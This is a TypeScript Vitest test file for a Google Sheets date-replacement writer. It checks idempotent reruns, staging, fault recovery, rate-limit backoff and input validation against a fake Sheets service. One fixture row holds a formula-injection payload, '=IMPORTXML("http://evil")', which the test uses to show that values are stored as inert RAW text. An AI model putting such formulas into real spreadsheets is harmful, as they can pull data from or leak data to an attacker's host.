import { describe, expect, it } from 'vitest';
import { AmbiguousOutcomeError, SpreadsheetUnreachableError } from '../src/sheets/errors.ts';
import { days, inputOf, rowsFor, setup, written } from './protocol-fixture.ts';

describe('replaceDates against the Sheets fake', () => {
  it('replaces only its dates in the tab, typed RAW, keeps the tab, other dates and tabs, and records the job', async () => {
    const { state, write } = await setup();
    const before = state.listTabs('ss1').find((t) => t.title === '로우데이터');
    const result = await write('job-1', [
      ['2024-01-02', '=IMPORTXML("http://evil")', 12],
      ['2024-01-03', '운동화', 0],
    ]);
    expect(result).toEqual(written(2, 3, ['2024-01-02', '2024-01-03']));
    expect(state.readTab('ss1', '로우데이터')).toEqual([
      ['date', 'keyword', 'clicks'],
      [45_291, 'kept', 7],
      [45_293, '=IMPORTXML("http://evil")', 12],
      [45_294, '운동화', 0],
    ]);
    expect(state.cell('ss1', "'로우데이터'!B3")).toEqual({ value: '=IMPORTXML("http://evil")' });
    expect(state.cell('ss1', "'로우데이터'!A3")?.numberFormat).toEqual({ type: 'DATE', pattern: 'yyyy-mm-dd' });
    expect(state.readTab('ss1', '로우데이터', 'FORMATTED_VALUE')[2]?.[0]).toBe('2024-01-02');
    const tabs = state.listTabs('ss1');
    expect(tabs.map(({ title, hidden, index }) => ({ title, hidden, index }))).toEqual([
      { title: 'Summary', hidden: false, index: 0 },
      { title: '로우데이터', hidden: false, index: 1 },
      { title: '_reportline', hidden: true, index: 2 },
    ]);
    // The seeded tab is 1000 rows: two inserted rows make it 1002, and its sheetId never changes.
    expect(tabs[1]).toMatchObject({ sheetId: before?.sheetId, rowCount: 1002 });
    expect(state.readTab('ss1', '_reportline').map((r) => r.slice(0, 4))).toEqual([
      ['sheetName', 'writeJobId', 'rows', 'committedAt'],
      ['로우데이터', 'job-1', 2, '2023-11-14T22:13:20.000Z'],
    ]);
    expect(state.readTab('ss1', 'Summary')).toEqual([['keep me']]);
    // A daily update's rows travel inside the commit: one read of the spreadsheet, one of the tab's dates, one write.
    expect({
      get: state.countRequests('spreadsheets.get'),
      batchGet: state.countRequests('values.batchGet'),
      batchUpdate: state.countRequests('spreadsheets.batchUpdate'),
      update: state.countRequests('values.update'),
      append: state.countRequests('values.append'),
    }).toEqual({ get: 1, batchGet: 1, batchUpdate: 1, update: 0, append: 0 });
    expect(state.requests).toHaveLength(3);
  });

  it('a rerun of a committed job is a no-op returning the recorded outcome', async () => {
    const { write, writesSeen } = await setup();
    const first = await write('job-1', rowsFor(5));
    const writes = writesSeen();
    expect(await write('job-1', rowsFor(5))).toEqual({ ...first, replayed: true });
    expect(writesSeen()).toBe(writes);
  });

  it("a later job replaces exactly its own dates' rows and leaves one record per tab", async () => {
    const { state, write } = await setup();
    await write('job-1', rowsFor(3, 'old'));
    await write('job-2', [['2024-01-02', 'new', 9]]);
    await write('job-x', rowsFor(1), 'Other tab');
    expect(state.readTab('ss1', '로우데이터')).toEqual([
      ['date', 'keyword', 'clicks'],
      [45_291, 'kept', 7],
      [45_292, 'old0', 0],
      [45_293, 'new', 9],
      [45_294, 'old2', 2],
    ]);
    expect(state.readTab('ss1', '_reportline').map((r) => r.slice(0, 3))).toEqual([
      ['sheetName', 'writeJobId', 'rows'],
      ['로우데이터', 'job-2', 1],
      ['Other tab', 'job-x', 1],
    ]);
    expect(state.listTabs('ss1').some((t) => t.title.startsWith('_stage_'))).toBe(false);
  });

  // A small import commits its rows inline (the commit is the first write); a large one stages them first (with
  // 1,000-byte requests, 3 rows are too large for the commit: a staging batch, a PUT, then the commit).
  const PATHS = [
    { path: 'inline', writer: {}, commitSkip: 0, writesPerRun: 1 },
    { path: 'staged', writer: { maxChunkBytes: 1_000 }, commitSkip: 1, writesPerRun: 2 },
  ];

  it.each(PATHS)(
    '$path: a commit whose response was dropped ends the run unknown; the next run reads it back and repeats nothing',
    async ({ writer, commitSkip }) => {
      const { state, write } = await setup({ writer });
      state.injectFault({ kind: 'drop', method: 'spreadsheets.batchUpdate', skip: commitSkip });
      await expect(write('job-1', rowsFor(3))).rejects.toBeInstanceOf(AmbiguousOutcomeError);
      expect(await write('job-1', rowsFor(3))).toEqual({ ...written(3, 4, days(3)), replayed: true });
      expect(state.requests.filter((r) => r.outcome === 'dropped')).toHaveLength(1);
      expect(state.countRequests('spreadsheets.batchUpdate')).toBe(commitSkip + 1);
      expect(state.readTab('ss1', '로우데이터')).toHaveLength(5);
      expect(state.readTab('ss1', '_reportline')).toHaveLength(2);
    },
  );

  it.each(PATHS)(
    '$path: a commit lost before it applied is redone by a later run once the metadata shows it did not land',
    async ({ writer, commitSkip, writesPerRun }) => {
      const { state, redelivered } = await setup({ writer });
      state.injectFault({ kind: 'drop-before-apply', method: 'spreadsheets.batchUpdate', skip: commitSkip });
      state.injectFault({ kind: '500', method: 'spreadsheets.batchUpdate' });
      // Run 1: the commit is lost. Run 2: its first batch answers 500 (outcome unknown too). Run 3 commits.
      expect(await redelivered('job-1', rowsFor(3))).toEqual({ runs: 3, result: written(3, 4, days(3)) });
      expect(state.countRequests('spreadsheets.batchUpdate')).toBe(writesPerRun * 2 + 1);
      expect(state.readTab('ss1', '로우데이터')).toHaveLength(5);
      expect(state.listTabs('ss1').map((t) => t.title)).toEqual(['Summary', '로우데이터', '_reportline']);
    },
  );

  it("sends a daily update of up to a request's size in the commit, and stages a larger one in chunks", async () => {
    // As row data a rowsFor() row is ~125 bytes: 10 rows fit an 8,000-byte commit, 100 rows (12,500 bytes) do not;
    // as values (~22 bytes a row) they fit one PUT.
    const { state, write } = await setup({ writer: { maxChunkBytes: 8_000 } });
    await write('small', rowsFor(10));
    expect(state.requests.map((r) => r.method)).toEqual([
      'spreadsheets.get',
      'values.batchGet',
      'spreadsheets.batchUpdate',
    ]);
    const before = state.requests.length;
    await write('large', rowsFor(100, 'big'));
    const methods = state.requests.slice(before).map((r) => r.method);
    expect(methods).toEqual([
      'spreadsheets.get',
      'values.batchGet',
      'spreadsheets.batchUpdate',
      'values.update',
      'spreadsheets.batchUpdate',
    ]);
    for (const r of state.requests) expect(r.bodyBytes ?? 0).toBeLessThanOrEqual(8_000);
    expect(
      state
        .readTab('ss1', '로우데이터')
        .slice(1)
        .map((r) => r[1]),
    ).toEqual([
      'kept',
      ...[...rowsFor(100, 'big')].sort((a, b) => String(a[0]).localeCompare(String(b[0]))).map((r) => r[1]),
    ]);
    expect(state.listTabs('ss1').some((t) => t.title.startsWith('_stage_'))).toBe(false);
  });

  it('survives dropped staging and chunk responses without duplicating anything', async () => {
    const { state, redelivered } = await setup({ writer: { maxChunkBytes: 1_000 } });
    state.injectFault({ kind: 'drop', method: 'spreadsheets.batchUpdate' });
    state.injectFault({ kind: 'drop', method: 'values.update', skip: 1, times: 2 });
    const rows = rowsFor(100);
    // The dropped staging ends run 1; the dropped chunk PUTs are safe to repeat, so the quota scheduler repeats them.
    expect(await redelivered('job-1', rows)).toEqual({ runs: 2, result: written(100, 101, days(28).sort()) });
    expect(state.requests.filter((r) => r.outcome === 'dropped')).toHaveLength(3);
    expect(state.readTab('ss1', '로우데이터')).toHaveLength(102);
    expect(state.listTabs('ss1').map((t) => t.title)).toEqual(['Summary', '로우데이터', '_reportline']);
  });

  it('replaces a staging tab left behind by a crashed attempt of the same job, and creates a missing tab once', async () => {
    const { state, write } = await setup();
    state.seedSpreadsheet({
      spreadsheetId: 'ss2',
      sheets: [{ title: 'Data' }, { title: '_stage_job-1', hidden: true, values: [['junk', 'junk', 'junk', 'junk']] }],
    });
    await write('job-1', rowsFor(1), 'New tab', 'ss2');
    expect(state.readTab('ss2', 'New tab')).toEqual([
      ['date', 'keyword', 'clicks'],
      [45_292, 'k0', 0],
    ]);
    expect(state.listTabs('ss2').map((t) => [t.title, t.rowCount, t.columnCount])).toEqual(
      [
        ['Data', 1000, 26],
        ['_reportline', 1, 5],
        ['New tab', 2, 3],
      ].map((t, i) => (i === 1 ? ['_reportline', 2, 5] : t)),
    );
  });

  it('replaces every date of a tab it created (frozen header, exact size) without deleting all non-frozen rows', async () => {
    const { state, write } = await setup();
    await write('job-1', rowsFor(2), 'Fresh');
    expect(state.listTabs('ss1').find((t) => t.title === 'Fresh')?.rowCount).toBe(3);
    await write('job-2', rowsFor(2, 'again'), 'Fresh');
    expect(state.readTab('ss1', 'Fresh')).toEqual([
      ['date', 'keyword', 'clicks'],
      [45_292, 'again0', 0],
      [45_293, 'again1', 1],
    ]);
    // One spare empty row is left at the end, once.
    await write('job-3', rowsFor(2, 'third'), 'Fresh');
    expect(state.listTabs('ss1').find((t) => t.title === 'Fresh')?.rowCount).toBe(4);
  });

  it('rides out Google 429s with backoff on the shared clock', async () => {
    const { clock, state, write } = await setup({
      fake: { limits: { writesPerMinutePerUser: 3 } },
      quota: { writesPerMinutePerUser: 1_000, writesPerMinutePerProject: 1_000 },
      writer: { maxChunkBytes: 1_000 },
    });
    const start = clock.now();
    expect((await write('job-1', rowsFor(60))).rowsWritten).toBe(60);
    expect(state.requests.filter((r) => r.outcome === 429).length).toBeGreaterThan(0);
    expect(clock.now() - start).toBeGreaterThanOrEqual(60_000);
    expect(state.readTab('ss1', '로우데이터')).toHaveLength(62);
  });

  it('a writer whose buckets match the quota never sees a 429', async () => {
    const { state, write } = await setup({
      fake: { limits: { writesPerMinutePerUser: 6 } },
      quota: { writesPerMinutePerUser: 6 },
      writer: { maxChunkBytes: 1_000 },
    });
    await write('job-1', rowsFor(400));
    expect(state.countRequests('values.update')).toBeGreaterThan(6);
    expect(state.requests.filter((r) => r.outcome === 429)).toHaveLength(0);
  });

  it('says what is wrong with the input or the spreadsheet before touching it', async () => {
    const { write, writesSeen } = await setup();
    await expect(write('bad id!', rowsFor(1))).rejects.toThrow('writeJobId');
    await expect(write('j', rowsFor(1), '_reportline')).rejects.toThrow('reserved');
    await expect(write('j', rowsFor(1), 'x', 'missing')).rejects.toBeInstanceOf(SpreadsheetUnreachableError);
    expect(writesSeen()).toBe(0);
  });

  it('rejects a bad value, an unsorted row set and a row of a date the import does not replace, committing nothing', async () => {
    const { state, writer } = await setup();
    const base = inputOf({ spreadsheetId: 'ss1', sheetName: '로우데이터', writeJobId: 'j', rows: [] });
    await expect(
      writer.replaceDates({ ...base, dates: ['2024-01-01'], rows: [['2024-01-01', 'k', 'NaN']], rowCount: 1 }),
    ).rejects.toThrow('row 1, column "clicks"');
    await expect(
      writer.replaceDates({
        ...base,
        dates: ['2024-01-01', '2024-01-02'],
        rows: [
          ['2024-01-02', 'k', 1],
          ['2024-01-01', 'k', 1],
        ],
        rowCount: 2,
      }),
    ).rejects.toThrow('not sorted');
    await expect(
      writer.replaceDates({ ...base, dates: ['2024-01-01'], rows: [['2024-01-05', 'k', 1]], rowCount: 1 }),
    ).rejects.toThrow("not one of the import's dates");
    expect(state.readTab('ss1', '로우데이터')).toEqual([
      ['old', 'header'],
      [45_291, 'kept', 7],
    ]);
  });
});
